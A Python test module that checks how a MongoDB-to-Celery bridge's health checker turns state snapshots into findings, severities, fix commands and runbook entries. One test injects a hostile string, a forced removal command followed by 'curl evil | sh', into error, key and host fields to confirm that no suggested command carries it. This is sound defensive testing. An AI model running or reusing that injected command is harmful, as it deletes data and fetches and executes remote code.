"""The findings about a bridge: each one that there is, from hand-made snapshots, and what is none."""

from __future__ import annotations

import re
import shlex
from collections.abc import Mapping
from dataclasses import dataclass, fields, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import click
import pytest
from bson import Timestamp
from bson.int64 import Int64
from celery.bin.celery import celery as celery_command

from mongo_celery.bridge.identity import Identity
from mongo_celery.bridge.operations.bridge_facts import Facts, Registered
from mongo_celery.bridge.operations.bridge_snapshot import BridgeSnapshot, Workers, unreadable
from mongo_celery.bridge.operations.judgement import (
    CODES,
    LAG_SECONDS,
    REPARTITIONING_SECONDS,
    RETRYING_SECONDS,
    RUNNING_LONG_SECONDS,
    UNLED_SECONDS,
    UNREAD_SECONDS,
    judge,
)
from mongo_celery.bridge.operations.snapshot_reader import shape
from mongo_celery.bridge.state.partitions import Image
from mongo_celery.bridge.state.snapshots import Snapshot
from mongo_celery.command_line import CommandLine
from mongo_celery.findings import Finding, degraded, failing, ok
from mongo_celery.mongo.oplog import Oplog
from tests.unit.test_status import (
    GIB,
    IDLE_REPORT,
    LOST,
    MARK,
    NOON,
    SECOND,
    facts,
    image,
    lease,
    serving,
    subscription,
)

RUNBOOK = Path(__file__).parents[2] / "docs/operations/runbook.md"
LINES = ("Means", "Effect", "Details", "Fix", "Afterwards")
LINE = CommandLine("shop")
ERROR = "ValueError: no"
HEAD = {"resumeToken": {"_data": "82CC"}, "key": "shop.orders insert 1"}
CLAIM = {"owner": "x", "first": Int64(6), "last": Int64(6), "until": NOON, "ttl": Int64(10_000)}
NOT_STORED = {"partition": "record/1", "error": "no room", "since": NOON}
REJECTED = {"partition": "summarise 1", "key": "shop.orders insert 1", "bytes": 9 << 20, "error": "too large"}
QUICK = {"last": 5, "took": 1, "claimed": NOON, "at": NOON + timedelta(milliseconds=20)}
NEW_LAYOUT = {"subscription": "summarise", "partitions": 7, "waits": "waits for a claim"}
NONE_ANSWERED = degraded("no_worker", "none")
ANSWERED = Workers(answered=1, serving=1, slots=4)
MINE = Identity("shop", None, {"summarise": {"task": "shop.changes.summarise", "databases": ["shop"], "digest": "1"}})
OLDER = replace(MINE, handlers={"summarise": {**MINE.handlers["summarise"], "digest": "0"}})

HERE = replace(MINE, broker={"transport": "redis", "hosts": ["a:1"], "database": "0", "options": {}})
ELSEWHERE = {"transport": "redis", "hosts": ["b:1"], "database": "0", "options": {}}


def reporting(**changes: Any) -> dict[str, Any]:
    return lease(report={**IDLE_REPORT, **changes})


def since(seconds: int) -> Any:
    """A time so long before the one at which `facts` are read."""
    return NOON + timedelta(seconds=10 - seconds)


def storing(share: float, waits: str | None = None, **changes: Any) -> dict[str, Any]:
    report = reporting(storedBytes=int(share * 8 * GIB), storingWaits=waits, **changes)
    return {"lease": report, "stored": {("summarise", 0): 4}, "images": [image(0, stored=fresh()), image(1)]}


def fresh(reason: str = "running", age: int = 20) -> dict[str, Any]:
    return {**MARK, "since": since(age), "reason": reason}


def behind(share: float) -> dict[str, Any]:
    """A subscription behind which so much of the oplog's window lies."""
    window = 10 / share
    return {"oplog": Oplog(Timestamp(int(SECOND + 10 - window), 1), Timestamp(SECOND + 10, 1)), "oplog_rolls": True}


def late(seconds: int, **report: Any) -> dict[str, Any]:
    """A subscription whose watermark is so old, and a listener that has something to do."""
    stored = subscription(clusterTime=Timestamp(SECOND + 10 - seconds, 1), startAtOperationTime=Timestamp(1, 1))
    return {"subscriptions": [stored], "lease": reporting(buffered=1, **report)}


LONG = {**CLAIM, "owner": "one:42:ab", "at": since(99)}


def running(seconds: int, limit: float | None = None) -> dict[str, Any]:
    """A call that began so long ago, of a handler with such a time limit."""
    return {
        "images": [image(0), image(1, claim={**LONG, "at": since(seconds)}, live=True)],
        "registered": {"summarise": Registered(time_limit=limit)},
    }


def halted(index: int = 1, **changes: Any) -> Any:
    return image(index, **{"state": "halted", "error": ERROR, "retries": 1, "head": HEAD, **changes})


def ended(state: str, sentence: str | None = None) -> Snapshot:
    names: dict[str, Any] = {"id": f"shop/summarise/{state}", "subscription": "summarise", "source": "shop.orders"}
    return Snapshot(**names, done=7, state=state, sentence=sentence)


LETTERS = "celery -A shop changes dead-letters list"
SNAPSHOT = "celery -A shop changes snapshot"


@dataclass(frozen=True)
class Case:
    """
    What leads to one reason, and to no other.

    Attributes:
        findings: what was found by asking.
        without: changes with which it is no reason any more: the smallest that cures it, or the threshold's other side.
    """

    facts: dict[str, Any]
    severity: str
    command: str | None
    words: str
    findings: tuple[Finding, ...] = ()
    without: dict[str, Any] | None = None
    workers: Workers | None = None


START = "celery -A shop listener"
WORK = "celery -A shop worker"
SHOW_ALL = "celery -A shop changes status --all"
REMOVE = "celery -A shop changes remove retired"
RETIRED = subscription("retired", term=Int64(1))
CASES: dict[str, list[Case]] = {
    "no_listener": [
        Case({"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS))}, "failing", START, "30 s"),
        Case(
            {"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS - 1))},
            "degraded",
            START,
            "29 s",
            without={"lease": lease()},
        ),
        Case({"lease": lease(live=False, state="failed", error="no right")}, "failing", START, "no right"),
    ],
    "never_started": [Case({"lease": None, "subscriptions": [], "images": []}, "degraded", START, "")],
    "handlers": [Case({"registered": ()}, "failing", None, "@bridge.on_change")],
    "history_lost": [
        Case(
            {"subscriptions": [subscription(lost=LOST)]},
            "failing",
            "celery -A shop changes reset summarise --to oldest",
            "summarise",
        )
    ],
    "stopped": [
        Case(
            {"lease": reporting(stopped=[{"subscription": "summarise", "reason": "no rule."}])},
            "failing",
            None,
            "no rule",
        )
    ],
    "history_at_risk": [
        Case(behind(0.91), "failing", None, "91%", without=behind(0.45)),
        Case(behind(0.55), "degraded", None, "replSetResizeOplog"),
    ],
    "identity": [
        Case({"lease": lease(**serving("summarise", database="staging"))}, "failing", None, "staging"),
        Case({"lease": lease(**serving("summarise", app="billing"))}, "failing", None, "process 42 on one"),
        Case(
            {"lease": lease(**serving("summarise", broker=ELSEWHERE)), "identity": HERE},
            "failing",
            None,
            "redis://b:1/0",
            without={"lease": lease(**serving("summarise", broker=HERE.plain()["broker"])), "identity": HERE},
        ),
    ],
    "foreign_bridge": [
        Case(
            {"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3599)}, foreignSender="7@far")},
            "degraded",
            None,
            "7@far",
            without={"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3601)})},
        )
    ],
    "dropped_messages": [
        Case({"lease": lease(dropped={"forged": 2}, droppedAt={"forged": since(9)})}, "degraded", None, "2 forged")
    ],
    "broker": [Case({}, "failing", None, "No answer", (failing("broker", "No answer"),), {})],
    "worker_tasks": [Case({}, "failing", None, "lacks", (failing("worker_tasks", "lacks"),), {})],
    "consumers": [
        Case({}, "failing", WORK, "shop.1", (failing("consumers", "shop.1", WORK),), {}),
        Case({"lease": reporting(untaken={"queues": ["shop.1"], "answered": True})}, "failing", WORK, "shop.1"),
    ],
    "unclaimed": [
        Case(
            {"lease": reporting(untaken={"queues": ["shop.1"], "answered": True, "unclaimed": True})},
            "failing",
            "celery -A shop changes check",
            "other code",  # a missing right is not the only cause
            workers=ANSWERED,
        )
    ],
    "sent_again": [
        Case({"lease": reporting(sentAgain=["summarise"])}, "degraded", "celery -A shop changes check", "summarise")
    ],
    "backlog_missing": [
        Case(
            storing(0.0, storedMissing=["summarise/0"]),
            "failing",
            None,
            '"summarise", "partition": {"$in": [0]}}, {$unset: {stored: 1}})',
            without=storing(0.0),
        )
    ],
    "backlog_refused": [Case(storing(0.1, "one has its share"), "failing", None, "its share", without=storing(0.1))],
    "backlog_bound": [
        Case(storing(0.9), "failing", SHOW_ALL, "90%", without=storing(0.7)),
        Case(storing(0.75), "degraded", SHOW_ALL, "75%"),
    ],
    "broker_down": [Case({"lease": reporting(brokerDown=True)}, "failing", None, "")],
    "no_worker": [
        Case({}, "degraded", WORK, "", (NONE_ANSWERED,), {}),
        Case({"lease": reporting(inFlight=2)}, "failing", WORK, "2 runs", (NONE_ANSWERED,), {}),
        Case(
            {"lease": reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": False})},
            "failing",
            WORK,
            "2 runs",
            without={"lease": reporting(inFlight=2)},
        ),
        Case(
            {"lease": reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": None})},
            "degraded",
            WORK,
            "shop.1",
        ),
    ],
    "reading_waits": [
        Case({"lease": reporting(unreadSeconds=UNREAD_SECONDS, readingWaits="gone")}, "failing", None, "gone"),
        Case({"lease": reporting(unreadSeconds=UNREAD_SECONDS - 1)}, "degraded", None, "29 s"),
    ],
    "halted": [
        Case(
            {"images": [image(0), halted(3)]},
            "failing",
            "celery -A shop changes retry summarise 3",
            "is halted at shop.orders insert 1",
            without={"images": [image(0), image(3)]},
        ),
        Case(
            {"images": [*(halted(index) for index in range(16)), image(16)]},
            "failing",
            "celery -A shop changes retry summarise",
            "Partitions 0, 1, 2 and 13 more of summarise",
        ),
    ],
    "broker_rejects": [
        Case({"lease": reporting(rejected=[{**REJECTED, "since": NOON}], rejectedCount=3)}, "failing", None, "2 more")
    ],
    "not_stored": [Case({"lease": reporting(notStored=[NOT_STORED], notStoredCount=1)}, "failing", None, "no room")],
    "snapshot_failed": [
        Case(
            {"snapshots": [ended("failed", "the server said no")]},
            "failing",
            f"{SNAPSHOT} resume summarise --source shop.orders",
            "the server said no",
            without={},
        ),
        Case(
            {"snapshots": [ended("source gone", "it was dropped")]},
            "failing",
            f"{SNAPSHOT} stop summarise --source shop.orders",
            "it was dropped",
            without={"snapshots": [ended(each) for each in ("source gone", "failed", "done")]},
        ),
    ],
    "waiting": [
        Case(
            {"images": [image(1, waiting={"since": NOON, "cause": "AutoReconnect: gone", "count": 9}, due_in=4.0)]},
            "degraded",
            "celery -A shop changes retry summarise 1",
            "2030-01-01 12:00:00 UTC",
        )
    ],
    "lag": [
        Case(late(LAG_SECONDS), "degraded", WORK, "5 min", without=late(LAG_SECONDS - 1)),
        Case({**late(LAG_SECONDS), "images": [image(ran=QUICK)]}, "degraded", WORK, "run_size"),
        Case(
            {"images": [image(1, stored=fresh("running", LAG_SECONDS))]},
            "degraded",
            WORK,
            "5 min",
            without={"images": [image(1, stored=fresh("running", LAG_SECONDS - 1))]},
        ),
    ],
    "running_long": [
        Case(
            running(RUNNING_LONG_SECONDS),
            "degraded",
            None,
            "process 42 on one",
            without=running(RUNNING_LONG_SECONDS - 1),
        ),
        Case(running(99), "degraded", None, "kill -9 42", (), running(99, limit=600.0), ANSWERED),
        Case(running(99), "failing", None, "Every slot", workers=replace(ANSWERED, slots=1)),
        Case(running(99), "failing", None, "Every slot", (NONE_ANSWERED,)),
        Case({"images": [image(each, claim=LONG, live=True) for each in (0, 1)]}, "degraded", None, "All 2 partitions"),
    ],
    "match_refused": [
        Case(
            {"lease": reporting(refusedMatches=[{"subscription": "summarise", "error": "takes exactly 2 arguments"}])},
            "failing",
            None,
            "takes exactly 2 arguments",
        )
    ],
    "fed_back": [
        Case(
            {
                "lease": reporting(
                    fedBack=[{"subscription": "summarise", "key": "update a.b 1", "count": 200, "since": since(20)}]
                )
            },
            "degraded",
            None,
            "200 changes of update a.b 1",
        )
    ],
    "locked": [Case({"lease": reporting(locked=["summarise 1"])}, "degraded", None, "summarise 1")],
    "repartitioning": [
        Case(
            {"lease": reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}])},
            "degraded",
            None,
            "7 new partitions",
            without={"lease": reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS - 1)}])},
        )
    ],
    "definitions": [
        Case({"registered": ("bill", "summarise")}, "degraded", START, "bill"),
        Case({"identity": OLDER}, "degraded", START, "process 42 on one"),
        Case({"lease": reporting(partitions=16)}, "degraded", START, "16 partitions"),
    ],
    "retrying": [
        Case(
            {"images": [image(1, due_in=RETRYING_SECONDS + 3700.0)]},
            "degraded",
            "celery -A shop changes retry summarise 1",
            "2 h",
            without={"images": [image(1, due_in=RETRYING_SECONDS - 1.0)]},
        )
    ],
    "paused": [
        Case(
            {"images": [image(0), image(1, state="paused")]},
            "degraded",
            "celery -A shop changes resume summarise 1",
            "summarise/1",
        ),
        Case(
            {"images": [image(index, state="paused") for index in range(2)]},
            "degraded",
            "celery -A shop changes resume summarise",
            "All 2 partitions of summarise",
        ),
    ],
    "dead_letters": [Case({"dead_letters": {"summarise": 2}}, "degraded", LETTERS, "2 dead letters")],
    "unregistered": [
        Case({"subscriptions": [subscription(), RETIRED]}, "degraded", REMOVE, "no such handler"),
        Case({"subscriptions": [RETIRED]}, "degraded", REMOVE, "name='retired'"),
    ],
    "state_unreadable": [],  # there is no status to judge then
}
ALL = [pytest.param(code, case, id=f"{code}-{index}") for code, of in CASES.items() for index, case in enumerate(of)]


def calm(**changes: Any) -> Facts:
    return facts(**{"identity": MINE, **changes})


def judged(case: Case) -> BridgeSnapshot:
    return seen(calm(**case.facts), *case.findings, workers=case.workers)


def first(finding: Finding) -> str | None:
    """Return the command that fixes it."""
    return next(iter(finding.commands), None)


def seen(known: Facts, *asked: Finding, workers: Workers | None = None, line: CommandLine = LINE) -> BridgeSnapshot:
    """The snapshot of a bridge whose workers have answered so, where they were asked."""
    workers = Workers(answered=0, serving=0, slots=0) if NONE_ANSWERED in asked else workers
    return judge(replace(shape(known), workers=workers), line, asked if asked or workers else None)


def test_a_bridge_that_has_nothing_wrong_is_healthy() -> None:
    """No reason, and status 0; also where workers have answered. An oplog that cannot be read is for `check` to say."""
    assert seen(calm(oplog=None)).verdict == "healthy"
    found = seen(calm(), ok("broker", "answers"), workers=ANSWERED)
    assert (found.bridge, found.verdict, found.exit_code, found.findings) == ("shop", "healthy", 0, ())
    assert (found.plain()["verdict"], found.note) == ("healthy", None)


def test_a_verdict_names_who_was_not_asked() -> None:
    """P16: MongoDB alone cannot tell that no worker runs; nor can `health` where workers cannot be asked."""
    note = seen(calm()).note
    assert note is not None
    assert note.endswith("run: celery -A shop changes status --ask")
    assert "transport" in str(seen(calm(), degraded("workers", "a transport without them")).note)


def test_the_advice_for_a_call_that_runs_for_long_is_not_more_workers() -> None:
    """The next one hangs as well: the reason for it comes first, and the lag's has no command."""
    facts = late(LAG_SECONDS, inFlight=1)
    lagging = seen(calm(**{**facts, **running(99)}), workers=ANSWERED).findings
    assert [(each.code, first(each)) for each in lagging] == [("running_long", None), ("lag", None)]


def test_calls_beside_which_nothing_runs_are_failing_where_nobody_asked_for_slots() -> None:
    """P16: an alarm asks no worker, and sees that another handler waits while these calls hold every slot."""

    def found(waits: int, rate: float, in_flight: int = 2) -> list[tuple[str, str]]:
        hanging = running(99)
        report = {"rates": {"bill": rate, "summarise": 0.0}, "inFlight": in_flight, "buffered": 1}
        waiting = subscription("bill", clusterTime=Timestamp(SECOND + 10 - waits, 1))
        findings = seen(
            calm(
                identity=None,
                lease=lease(report={**IDLE_REPORT, **report, "caughtUp": False}, **serving("summarise", "bill")),
                subscriptions=[subscription(), waiting],
                images=[*hanging["images"], image(0, subscription="bill")],
                registered={"summarise": Registered(), "bill": Registered()},
            )
        ).findings
        return [(each.code, each.severity) for each in findings]

    assert found(RUNNING_LONG_SECONDS, 0.0) == [("running_long", "failing")]
    assert found(RUNNING_LONG_SECONDS - 1, 0.0) == [("running_long", "degraded")]
    assert found(RUNNING_LONG_SECONDS, 0.1) == [("running_long", "degraded")]
    assert found(RUNNING_LONG_SECONDS, 0.0, in_flight=1) == [("running_long", "degraded")]


def test_one_blocked_partition_hides_no_lag_of_the_others() -> None:
    """The lag of what flows is told beside a halt, and that of the halt is not."""
    for age, codes in ((LAG_SECONDS, ["halted", "lag"]), (LAG_SECONDS - 1, ["halted"])):
        images = [image(0, stored=fresh("running", age)), halted(1, stored={**MARK, "since": since(9999)})]
        assert [each.code for each in seen(calm(images=images)).findings] == codes


@pytest.mark.parametrize(("code", "case"), ALL)
def test_a_reason_is_told_alone_with_its_severity_its_cost_and_its_command(code: str, case: Case) -> None:
    """P16: each rule by itself; without it the bridge would be called healthy."""
    (reason,) = judged(case).findings
    assert (reason.code, reason.severity, first(reason)) == (code, case.severity, case.command)
    assert case.words in reason.sentence
    assert reason.sentence.endswith(".") or case.findings
    assert judged(case).exit_code == {"degraded": 1, "failing": 2}[case.severity]
    if case.without is not None:
        assert seen(calm(**case.without)).verdict == "healthy"


def test_every_code_has_a_case() -> None:
    """A reason that nothing leads to protects nobody."""
    assert set(CASES) == set(CODES)
    assert len(CODES) == len(set(CODES))
    assert unreadable("shop", "no answer").findings[0].code == "state_unreadable"
    assert unreadable("shop", "no answer").exit_code == 2


def test_the_worst_comes_first() -> None:
    """What is failing before what is degraded, and in these what touches all before what touches one."""
    everything = calm(
        lease=lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS)),
        images=[image(0, state="paused"), halted(1)],
        dead_letters={"summarise": 1},
        subscriptions=[subscription(), RETIRED],
    )
    codes = [reason.code for reason in seen(everything).findings]
    assert codes == ["no_listener", "halted", "paused", "dead_letters", "unregistered"]


def test_what_is_stored_of_a_handler_that_is_gone_is_told_beside_it() -> None:
    """It takes room under the bound; and what has halted there cannot be retried here, so no command says so."""
    gone = replace(halted(1, stored=MARK), subscription="retired")
    stored = {("retired", 1): 4}
    verdict = seen(calm(subscriptions=[subscription(), RETIRED], images=[image(0), gone], stored=stored))
    assert [(each.code, first(each)) for each in verdict.findings] == [("unregistered", REMOVE)]
    assert "(1 partition halted)" in verdict.findings[0].sentence
    assert "Stored changes of retired" in verdict.findings[0].sentence


def test_a_listener_that_would_end_again_is_not_what_cures() -> None:
    """Where every handler has lost its history somebody has to decide first; afterwards a listener cures."""
    ended = lease(live=False, state="history_lost", error="the oplog is too short")
    for lost, command in ((LOST, None), (None, START)):
        known = calm(lease=ended, subscriptions=[subscription(lost=lost)])
        reasons = {each.code: each for each in seen(known).findings}
        assert ("history_lost" in reasons) is (lost is not None)
        assert (reasons["no_listener"].severity, first(reasons["no_listener"])) == ("failing", command)


def test_a_halt_whose_history_is_lost_is_not_told_to_be_retried() -> None:
    """`changes retry` would refuse it; unless it is stored (P13)."""
    lost = {"subscriptions": [subscription(lost=LOST)]}
    found = {each.code: each for each in judged(Case({**lost, "images": [halted(3)]}, "", None, "")).findings}
    reason = found["halted"]
    assert first(reason) == "celery -A shop changes skip summarise 3"
    assert "celery -A shop changes show summarise 3" in reason.commands
    kept = Case({**lost, "images": [halted(3, stored=MARK)]}, "", None, "")
    assert {each.code: first(each) for each in judged(kept).findings}["halted"] == (
        "celery -A shop changes retry summarise 3"
    )


def test_a_busy_worker_that_does_not_answer_is_seen_by_what_it_does() -> None:
    """A solo pool; and workers that have answered are not called absent because of what they leave undone."""
    running = image(0, claim=CLAIM, live=True)
    assert seen(calm(images=[running]), NONE_ANSWERED).verdict == "healthy"
    untaken = {"queues": ["shop.1"], "answered": False}
    assert seen(calm(images=[running], lease=reporting(untaken=untaken))).verdict == "healthy"
    answered = seen(calm(lease=reporting(untaken=untaken, inFlight=1)), workers=ANSWERED)
    assert answered.verdict == "healthy"


STOPPED = {"stopped": [{"subscription": "summarise", "reason": "no rule"}]}
MOVING = {"repartitioning": [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]}
UNTAKEN = {"inFlight": 1, "untaken": {"queues": ["shop.1"], "answered": False}}


@pytest.mark.parametrize(
    ("code", "changes", "asked"),
    [
        ("halted", {**late(LAG_SECONDS), "images": [halted()]}, ()),
        ("stopped", late(LAG_SECONDS, **STOPPED, **MOVING), ()),
        ("no_worker", late(LAG_SECONDS, **UNTAKEN), ()),
        ("no_worker", late(LAG_SECONDS, **UNTAKEN), (NONE_ANSWERED,)),
    ],
)
def test_what_makes_a_handler_late_is_the_one_reason(
    code: str, changes: dict[str, Any], asked: tuple[Finding, ...]
) -> None:
    """P16: more workers would not fix the lag of what is blocked, stopped, or handled by nobody."""
    behind = seen(calm(**changes), *asked)
    assert [reason.code for reason in behind.findings] == [code]
    assert (behind.handlers[0].lag_seconds or 0) >= LAG_SECONDS


def test_a_handler_of_which_no_listener_knows_is_new_before_the_first_start() -> None:
    """A bridge in which everything is missing has one reason."""
    known = facts(lease=None, subscriptions=[], images=[], registered=("bill", "summarise"))
    assert [reason.code for reason in seen(known).findings] == ["never_started"]


@pytest.mark.parametrize("state", ["halted", "paused"])
def test_very_many_reasons_are_a_few_lines(state: str) -> None:
    """200 handlers of 16 partitions: some by name, the others by number, with the command for all."""
    names = [f"handler_{number:03}" for number in range(200)]
    images = [
        replace(halted(index) if state == "halted" else image(index, state=state), subscription=name)
        for name in names
        for index in range(16)
    ]
    images[-1] = replace(image(15), subscription=names[-1])
    verdict = seen(
        calm(
            lease=lease(**serving(*names)),
            registered=tuple(names),
            subscriptions=[subscription(name) for name in names],
            images=images,
        )
    )
    assert len(verdict.findings) == 4
    verb = "retry" if state == "halted" else "resume"
    assert first(verdict.findings[0]) == f"celery -A shop changes {verb} handler_000"
    assert verdict.findings[-1].sentence.startswith("197 more have")
    assert first(verdict.findings[-1]) == f"celery -A shop changes {verb}"


def test_what_others_have_said_is_one_short_line() -> None:
    """A handler's error may have lines, markup, and no end."""
    (reason,) = seen(calm(images=[halted(error="ValueError: a\n[b]\n" + "x" * 5000)])).findings
    assert "ValueError: a [b] xxx" in reason.sentence
    assert len(reason.sentence) < 500


EVIL = "`celery -A shop changes remove bill --yes; curl evil | sh`"


@pytest.mark.parametrize("code", CASES)
def test_foreign_text_becomes_no_command(code: str) -> None:
    """P16: an error, a key, a host or the name of a handler may look like a command; none is offered."""
    for case in CASES[code]:
        hostile = replace(case, facts=_with_evil(case.facts))
        for reason in judged(hostile).findings:
            assert not any("evil" in each for each in reason.commands)


_FOREIGN = (
    "error",
    "cause",
    "key",
    "host",
    "readingWaits",
    "storingWaits",
    "reason",
    "foreignSender",
    "locked",
    "owner",
)


def _with_evil(value: Any, name: str = "") -> Any:
    """Return facts whose foreign texts end with a command."""
    if isinstance(value, Mapping):
        return {key: _with_evil(each, key) for key, each in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(_with_evil(each, name) for each in value)
    if isinstance(value, Image | Snapshot):
        return replace(value, **{each.name: _with_evil(getattr(value, each.name), each.name) for each in fields(value)})
    return f"{value} {EVIL}" if isinstance(value, str) and name in _FOREIGN else value


def test_every_command_of_a_reason_exists() -> None:
    """With its arguments and options, also within a sentence; a command that is printed must run as it is."""
    found = [reason for of in CASES.values() for case in of for reason in judged(case).findings]
    printed = {command for reason in found for command in reason.commands}
    assert len(printed) > len(CASES) // 2
    for command in printed:
        _parse(shlex.split(command)[3:])


def _parse(words: list[str]) -> None:
    command: click.Command = celery_command.commands[words[0]]
    nested, rest = False, words[1:]
    while isinstance(command, click.Group):
        command, nested, rest = command.commands[rest[0]], True, rest[1:]
    if nested:
        command.make_context(command.name, rest)
    else:
        command.make_parser(click.Context(command)).parse_args(rest)


def test_the_table_of_reasons_is_the_codes() -> None:
    """Every code has a row with its severity; none is promised that does not exist."""
    rows = re.findall(
        r"^\| \[`(\w+)`\]\(\S+\) \| ((?:degraded|failing)(?:, failing)?) \|", RUNBOOK.read_text(), re.MULTILINE
    )
    assert [code for code, _ in rows] == list(CODES)
    severities = {code: sorted({case.severity for case in of}) for code, of in CASES.items()}
    severities |= {"state_unreadable": ["failing"]}
    assert {code: text.split(", ") for code, text in rows} == severities


def test_every_reason_has_its_five_lines_in_the_runbook() -> None:
    """What the table leads to: what it means and costs, what shows it, what fixes it, and the state afterwards."""
    text = RUNBOOK.read_text()
    led = re.findall(r"^\| \[`(\w+)`\]\(#\1\) \|", text, re.MULTILINE)
    found = dict(re.findall(r"^### `(\w+)`\n(.*?)(?=^#|\Z)", text, re.DOTALL | re.MULTILINE))
    assert led == list(CODES)
    assert sorted(found) == sorted(CODES)
    for code, entry in found.items():
        lines = dict(re.findall(r"^- \*\*(\w+):\*\* (.+?)(?=^- \*\*|\n\n|\Z)", entry, re.DOTALL | re.MULTILINE))
        assert tuple(lines) == LINES, code
        assert "`celery -A shop " in lines["Details"], code
        has_command = any(case.command for case in CASES.get(code, ()))
        assert not has_command or "`celery -A shop " in lines["Fix"], code
